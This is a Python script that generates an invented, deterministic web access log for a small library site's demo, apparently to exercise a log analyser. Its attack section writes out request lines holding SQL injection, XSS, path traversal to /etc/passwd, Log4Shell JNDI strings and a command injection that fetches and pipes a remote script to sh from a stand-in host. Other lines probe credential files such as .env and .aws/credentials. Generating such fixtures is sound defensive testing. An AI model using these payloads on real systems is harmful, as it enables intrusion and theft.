r"""Writes the small log of the demo: combined format, invented, the same bytes for the same day.

`python -m benchmarks.sample PATH [--today YYYY-MM-DD]`

It shows what an access log of a small library's web site could hold in the ten days before `today`: readers with
browsers of several families, crawlers, a scanner that sweeps for well-known files, guessed passwords, attacks, an
outage, personal data in URLs, both servers' escapes, and lines that are no lines. It runs before anything is
installed, so it needs the standard library only, and draws only on `Random.random`, the one method whose sequence
Python promises to keep.
"""

from __future__ import annotations

import argparse
import sys
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

LINES = 800
"""All lines of the log."""
BROKEN = 7
"""Lines that no reader of the combined format can take."""
BLANK = 4
"""Lines of nothing but blanks."""
ROWS = LINES - BROKEN - BLANK
"""Lines that give a row."""
DAYS = 10
"""Full days before `today` that the log covers, in UTC."""

_SEED = 20_000
_HOUR = 3600
_DAY = 24 * _HOUR
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_T = TypeVar("_T")

_SITE = "https://library.example"
_CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 "
_WINDOWS = "Windows NT 10.0; Win64; x64"
_MAC = "Macintosh; Intel Mac OS X 10_15_7"
_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
_SAMSUNG = (
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
)
_BROWSERS = (
    _CHROME.format(_WINDOWS, 141) + "Safari/537.36",
    _CHROME.format(_WINDOWS, 140) + "Safari/537.36",
    _CHROME.format(_MAC, 141) + "Safari/537.36",
    _CHROME.format("Linux; Android 10; K", 141) + "Mobile Safari/537.36",
    _CHROME.format("Linux; Android 10; K", 139) + "Mobile Safari/537.36",
    _CHROME.format(_WINDOWS, 141) + "Safari/537.36 Edg/141.0.0.0",
    _CHROME.format("X11; Linux x86_64", 140) + "Safari/537.36 OPR/124.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Android 15; Mobile; rv:143.0) Gecko/143.0 Firefox/143.0",
    f"Mozilla/5.0 ({_MAC}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    _IPHONE + "Version/18.6 Mobile/15E148 Safari/604.1",
    _IPHONE + "CriOS/141.0.7390.41 Mobile/15E148 Safari/604.1",
    _SAMSUNG + "SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
)
_COMPATIBLE = "Mozilla/5.0 (compatible; {})"
_RENDERS = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {})"
# Address, how many requests it makes in the ten days, agent.
_CRAWLERS = (
    ("198.51.100.10", 34, _COMPATIBLE.format("Googlebot/2.1; +http://www.google.com/bot.html")),
    ("198.51.100.21", 22, _COMPATIBLE.format("bingbot/2.0; +http://www.bing.com/bingbot.htm")),
    ("2001:db8:f00:17::10", 26, _RENDERS.format("GPTBot/1.2; +https://openai.com/gptbot")),
    ("2001:db8:f00:31::4", 24, _RENDERS.format("ClaudeBot/1.0; +claudebot@anthropic.com")),
    ("2001:db8:f01:2::7", 9, _RENDERS.format("PerplexityBot/1.0; +https://perplexity.ai/bot")),
    ("198.51.100.87", 14, _COMPATIBLE.format("AhrefsBot/7.0; +http://ahrefs.com/robot/")),
    ("198.51.100.140", 6, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"),
    ("198.51.100.11", 12, "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"),
)
# Path and size of its answer; earlier ones are asked for more often.
_PAGES = (
    ("/", 14_212),
    ("/catalogue/", 23_870),
    ("/opening-hours", 6_431),
    ("/catalogue/18472", 9_803),
    ("/events/2026/reading-night", 11_094),
    ("/catalogue/20911", 9_644),
    ("/news/", 17_530),
    ("/catalogue/3317", 10_020),
    ("/account/loans", 8_015),
    ("/contact", 5_127),
    ("/members/hazel-quill/reviews", 7_350),
    ("/~tmarsh/local-history.html", 31_248),
    ("/news/feed.xml", 22_904),
)
_ASSETS = (
    ("/static/site.css", 18_233),
    ("/static/app.7c1f0e9b.js", 88_120),
    ("/static/logo.svg", 4_105),
    ("/favicon.ico", 1_150),
    ("/covers/18472.webp", 35_420),
    ("/covers/20911.webp", 41_007),
)
_ENTRIES = (
    "-",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://www.bing.com/search?q=opening+hours+library&form=QBLH",
    "https://mail.example/inbox?user=hazel.quill%40example.org&msg=8841",
    "https://social.example/@fernhill/posts/4711",
)
_READERS = (
    *(f"192.0.2.{host}" for host in range(11, 75, 3)),
    *(f"198.51.100.{host}" for host in range(200, 230, 4)),
    *(
        f"2001:db8:a{host:02x}:{host * 37:x}:91c:4eff:fe{host:02x}:{host * 211:x}"
        for host in range(1, 9)
    ),
    *(f"2001:db8:b{host:02x}:{host:x}::{host * 5:x}" for host in range(16, 22)),
    "2001:db8:c00:8::2f",
    "::ffff:192.0.2.201",
)
_SOUGHT = """
/wp-login.php /wp-admin/setup-config.php /xmlrpc.php /.env /.env.production /.git/config /.git/HEAD
/.aws/credentials /phpmyadmin/index.php /pma/ /admin/ /administrator/index.php /backup.zip /backup.sql
/config.php.bak /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /server-status /actuator/env
/solr/admin/info/system /cgi-bin/luci /boaform/admin/formLogin /owa/auth/logon.aspx /.DS_Store
/wp-content/plugins/file-manager/readme.txt /HNAP1 /shell.php /telescope/requests
/_ignition/health-check
""".split()  # noqa: SIM905 — one path per line would be 28 lines


@dataclass(frozen=True, slots=True, kw_only=True)
class _Hit:
    """One line that is well formed; `at` is in seconds from the start of the log."""

    at: int
    address: str
    request: str
    status: int
    size: int | None
    referer: str = "-"
    agent: str = "-"
    user: str = "-"

    def line(self, start: datetime) -> str:
        size = "-" if self.size is None else str(self.size)
        return (
            f"{self.address} - {self.user} [{_stamp(start, self.at)}] "
            f'"{self.request}" {self.status} {size} "{self.referer}" "{self.agent}"'
        )


def write(path: str | Path, *, today: date) -> None:
    """Write the sample: `LINES` lines of the `DAYS` days before `today`, in time order.

    Args:
        path: The file; replaced when it exists.
        today: The day after the last day of the log, UTC.
    """
    start = datetime(today.year, today.month, today.day, tzinfo=UTC) - timedelta(days=DAYS)
    rng = Random(_SEED)
    planned = [
        *_crawls(rng),
        *_sweeps(rng),
        *_logins(rng),
        *_attacks(),
        *_oddities(),
        *_outage(rng),
    ]
    hits = sorted((*planned, *_visits(rng, ROWS - len(planned))), key=lambda hit: hit.at)
    lines = [hit.line(start) for hit in hits]
    for place, text in _interruptions(start):
        lines.insert(place, text)
    assert len(lines) == LINES
    Path(path).write_bytes(("\n".join(lines) + "\n").encode())


def _stamp(start: datetime, at: int) -> str:
    when = start + timedelta(seconds=at)
    # strftime's %b would follow the user's locale.
    return f"{when:%d}/{_MONTHS[when.month - 1]}/{when:%Y:%H:%M:%S} +0000"


def _pick(rng: Random, values: Sequence[_T], *, skew: float = 1.0) -> _T:
    return values[int(len(values) * rng.random() ** skew)]


def _office_hour(rng: Random) -> int:
    """A moment of the ten days, more likely by day than by night."""
    hour = 13 + 9 * (rng.random() + rng.random() + rng.random() - 1.5)
    return int(rng.random() * DAYS) * _DAY + int(hour * _HOUR)


def _visits(rng: Random, count: int) -> Iterator[_Hit]:
    left = count
    while left:
        visit = list(_visit(rng))[:left]
        left -= len(visit)
        yield from visit


def _visit(rng: Random) -> Iterator[_Hit]:
    address, agent = _pick(rng, _READERS, skew=1.3), _pick(rng, _BROWSERS, skew=1.5)
    at, referer = _office_hour(rng), _pick(rng, _ENTRIES, skew=1.4)
    protocol = "HTTP/2.0" if rng.random() < 0.7 else "HTTP/1.1"
    returning = rng.random() < 0.3
    for _ in range(1 + int(rng.random() * 4)):
        page, size = _pick(rng, _PAGES, skew=1.9)
        query = (
            "?q=fern+identification&page=2" if page == "/catalogue/" and rng.random() < 0.5 else ""
        )
        yield _Hit(
            at=at, address=address, request=f"GET {page}{query} {protocol}", status=200, size=size,
            referer=referer, agent=agent,
        )  # fmt: skip
        referer = f"{_SITE}{page}{query}"
        for _ in range(int(rng.random() * 3)):
            asset, size = _pick(rng, _ASSETS)
            yield _Hit(
                at=at + 1, address=address, request=f"GET {asset} {protocol}",
                status=304 if returning else 200, size=0 if returning else size,
                referer=referer, agent=agent,
            )  # fmt: skip
        at += 8 + int(rng.random() * 90)


def _crawls(rng: Random) -> Iterator[_Hit]:
    for address, requests, agent in _CRAWLERS:
        for turn in range(requests):
            page, size = ("/robots.txt", 310) if turn % 9 == 0 else _pick(rng, _PAGES)
            gone = rng.random() < 0.06
            yield _Hit(
                at=int(rng.random() * (DAYS * _DAY - 1)), address=address, agent=agent,
                request=f"GET {'/catalogue/999' if gone else page} HTTP/1.1",
                status=404 if gone else 200, size=1_245 if gone else size,
            )  # fmt: skip


def _sweeps(rng: Random) -> Iterator[_Hit]:
    """Two scanners: one comes back in three nights and changes its address within a network, one comes once."""
    nights = [
        (1, "203.0.113.45"),
        (4, "203.0.113.77"),
        (8, "203.0.113.112"),
        (6, "2001:db8:6600:bad::9"),
    ]
    for day, address in nights:
        at = day * _DAY + 2 * _HOUR + int(rng.random() * 1_800)
        agent = "Mozilla/5.0 zgrab/0.x" if ":" in address else "curl/8.5.0"
        for sought in _SOUGHT[: 18 if ":" in address else None]:
            at += 1 + int(rng.random() * 2)
            forbidden = sought == "/server-status"
            yield _Hit(
                at=at, address=address, agent=agent, request=f"GET {sought} HTTP/1.1",
                status=403 if forbidden else 404, size=548 if forbidden else 1_245,
            )  # fmt: skip


def _logins(rng: Random) -> Iterator[_Hit]:
    """Guessed passwords in bursts, the last of one burst right; and readers who mistype once."""
    form = f"{_SITE}/login?next=/account/loans"
    guesser = "python-requests/2.32.3"
    bursts = [
        (2, 3, "203.0.113.201", 22),
        (5, 3, "203.0.113.202", 24),
        (7, 14, "2001:db8:6600:bad::31", 16),
    ]
    for day, hour, address, tries in bursts:
        for turn in range(tries):
            right = day == 5 and turn == tries - 1
            yield _Hit(
                at=day * _DAY + hour * _HOUR + 120 + turn * 7, address=address, agent=guesser,
                request="POST /login HTTP/1.1", status=303 if right else 401, size=0 if right else 3_377,
            )  # fmt: skip
    for _ in range(14):
        at, address, agent = _office_hour(rng), _pick(rng, _READERS), _pick(rng, _BROWSERS)
        for status in (401, 303) if rng.random() < 0.4 else (303,):
            yield _Hit(
                at=at, address=address, request="POST /login HTTP/2.0", status=status,
                size=3_377 if status == 401 else 0, referer=form, agent=agent,
            )  # fmt: skip
            at += 11


def _attacks() -> Iterator[_Hit]:
    """One kind of attack after the other, from one network, as a scanner of weaknesses sends them."""
    jndi = "${jndi:ldap://198.51.100.66:1389/Basic/a}"
    tries: list[tuple[str, int, int, str, str]] = [
        ("GET /catalogue/18472?id=1%27%20OR%20%271%27=%271 HTTP/1.1", 200, 9_803, "-", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
        ("GET /catalogue/?q=1+UNION+SELECT+username,password+FROM+users--+- HTTP/1.1", 500, 812, "-", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
        ("GET /catalogue/?q=1;SELECT+pg_sleep(5)-- HTTP/1.1", 500, 812, "-", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
        ("GET /catalogue/?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, 5_120, "-", _BROWSERS[0]),
        ("GET /static/../../../../etc/passwd HTTP/1.1", 400, 150, "-", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        ("GET /download?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", 404, 1_245, "-", "Wget/1.21.4"),
        ("GET / HTTP/1.1", 200, 14_212, "-", jndi),
        (f"GET /?x={jndi} HTTP/1.1", 200, 14_212, jndi, "Mozilla/5.0"),
        ("GET /cgi-bin/status HTTP/1.1", 404, 1_245, "-", "() { :; }; /bin/ping -c 3 198.51.100.66"),
        ("GET /index.php?cmd=;wget%20http://198.51.100.66/x.sh%20-O-%7Csh HTTP/1.1", 404, 1_245, "-", "Hello, World"),
        ("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, 150, "-", "-"),
        ("CONNECT 198.51.100.66:443 HTTP/1.1", 405, 150, "-", "-"),
    ]  # fmt: skip
    for night, address in ((3, "203.0.113.9"), (8, "203.0.113.14")):
        for turn, (request, status, size, referer, agent) in enumerate(tries):
            yield _Hit(
                at=night * _DAY + 23 * _HOUR + turn * 5, address=address, request=request,
                status=status, size=size, referer=referer, agent=agent,
            )  # fmt: skip


def _oddities() -> Iterator[_Hit]:
    r"""Lines as servers write them when clients are strange: nginx writes `\x22`, Apache `\"` and letters."""
    quiet = _BROWSERS[7]
    odd: list[tuple[str, str, str, int, int | None, str, str]] = [
        # TLS spoken to the plain port, a request that never came, an HTTP/2 preface, noise.
        ("198.51.100.66", "-", r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xE5", 400, 157, "-", "-"),
        ("198.51.100.66", "-", r"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\"\n", 400, None, "-", "-"),
        ("203.0.113.61", "-", "-", 408, None, "-", "-"),
        ("203.0.113.61", "-", "", 400, 0, "-", "-"),
        ("203.0.113.61", "-", "PRI * HTTP/2.0", 400, 157, "-", "-"),
        ("203.0.113.61", "-", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400, 157, "-", "-"),
        # Quotes and letters outside ASCII, escaped by the one and the other server.
        ("192.0.2.77", "-", "GET /catalogue/?q=\\x22ferns\\x22 HTTP/1.1", 200, 5_120, r"https://forum.example/t/\x22best\x22-guides?p=2", quiet),
        ("192.0.2.78", "-", r"GET /news/ HTTP/1.1", 200, 17_530, "-", r'Reader \"Fernweh\" 1.0 (back\\slash\ttab)'),
        ("192.0.2.79", "-", r"GET /events/caf\xC3\xA9-litt\xC3\xA9raire HTTP/1.1", 200, 8_801, "-", quiet),
        # Personal data where it does not belong.
        ("192.0.2.31", "-", "GET /newsletter/unsubscribe?email=hazel.quill%40example.org HTTP/2.0", 200, 2_110, "-", quiet),
        ("192.0.2.31", "-", "GET /newsletter/unsubscribe/wren.alder@example.org HTTP/2.0", 200, 2_110, "-", quiet),
        ("2001:db8:a03:6f::51", "-", "GET /password/reset/9f2c4b7de01a4c55b8c2e6f7a1d03b94 HTTP/2.0", 200, 4_402, "-", quiet),
        ("2001:db8:a03:6f::51", "-", "GET /account/loans?session=5b1d9c7e4f0a4d21&user=wren.alder HTTP/2.0", 200, 8_015, f"{_SITE}/password/reset/9f2c4b7de01a4c55b8c2e6f7a1d03b94", quiet),
        ("192.0.2.32", "-", "GET /api/holds/6f1e2d3c-4b5a-4c6d-8e7f-901a2b3c4d5e HTTP/2.0", 200, 931, "-", quiet),
        ("192.0.2.32", "-", "GET /status/clients/192.0.2.32 HTTP/2.0", 404, 1_245, "-", quiet),
        ("198.51.100.230", "tmarsh", "GET /staff/rota HTTP/1.1", 200, 12_870, "-", quiet),
        ("198.51.100.230", "hazel quill", "GET /staff/rota HTTP/1.1", 401, 580, "-", quiet),
        ("198.51.100.230", "tmarsh", "PUT /staff/rota/2026-11 HTTP/1.1", 204, None, f"{_SITE}/staff/rota?week=47", quiet),
        # Ranges, health checks, clients that are no browsers.
        ("192.0.2.44", "-", "GET /downloads/annual-report.pdf HTTP/1.1", 206, 65_536, "-", _BROWSERS[10]),
        ("192.0.2.44", "-", "GET /downloads/annual-report.pdf HTTP/1.1", 200, 4_812_330, "-", _BROWSERS[10]),
        ("2001:db8:b10:1::90", "-", "GET /downloads/local-history-scan.tiff HTTP/1.1", 200, 48_990_112, "-", "Wget/1.21.4"),
        ("198.51.100.254", "-", "HEAD / HTTP/1.1", 200, 0, "-", "check_http/v2.4 (monitoring-plugins 2.4)"),
        ("198.51.100.254", "-", "OPTIONS * HTTP/1.0", 200, 0, "-", "-"),
    ]  # fmt: skip
    for turn, (address, user, request, status, size, referer, agent) in enumerate(odd):
        yield _Hit(
            at=(turn * 5 + 3) % DAYS * _DAY + 9 * _HOUR + turn * 613, address=address, user=user,
            request=request, status=status, size=size, referer=referer, agent=agent,
        )  # fmt: skip


def _outage(rng: Random) -> Iterator[_Hit]:
    """Three quarters of an hour in which the application behind the server is away."""
    for _ in range(26):
        page, _size = _pick(rng, _PAGES, skew=1.5)
        yield _Hit(
            at=6 * _DAY + 16 * _HOUR + int(rng.random() * 2_700), address=_pick(rng, _READERS),
            request=f"GET {page} HTTP/2.0", status=502 if rng.random() < 0.7 else 503, size=497,
            referer=f"{_SITE}/", agent=_pick(rng, _BROWSERS, skew=1.5),
        )  # fmt: skip


def _interruptions(start: datetime) -> list[tuple[int, str]]:
    """Where lines that give no row stand, and what they say: first the blank ones, then the broken ones."""
    late = _stamp(start, 9 * _DAY)
    blanks = [(57, ""), (58, ""), (310, "   "), (641, "")]
    broken = [
        (40, f'192.0.2.23 - - [{_stamp(start, _HOUR)}] "GET /catalogue/18472 HTTP/1.1" 200 98'),
        (151, "logrotate: renamed access.log to access.log.1"),
        (262, '192.0.2.23 - - [31/Foo/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 14212 "-" "-"'),
        (373, f'192.0.2.24 - - [{late}] "GET / HTTP/1.1" 99999 14212 "-" "-"'),
        (484, f'192.0.2.25 - - [{late}] "GET / HTTP/1.1" 200 14212 "-" "Mozilla/5.0 (X11; Linux'),
        (595, "\0" * 64),
        (706, "[notice] 1#1: using the epoll event method"),
    ]
    assert (len(blanks), len(broken)) == (BLANK, BROKEN)
    return [*blanks, *broken]


def main(argv: Sequence[str] | None = None) -> int:
    """Write the sample to the path that is named."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.sample", description=write.__doc__)
    parser.add_argument("path", type=Path)
    parser.add_argument(
        "--today", type=date.fromisoformat, help="the day after the last (default: today, UTC)"
    )
    options = parser.parse_args(argv)
    now = datetime.now(UTC)  # noqa: TID251 — the edge of this program: the demo's log must be recent
    write(options.path, today=options.today or now.date())
    return 0


if __name__ == "__main__":
    sys.exit(main())
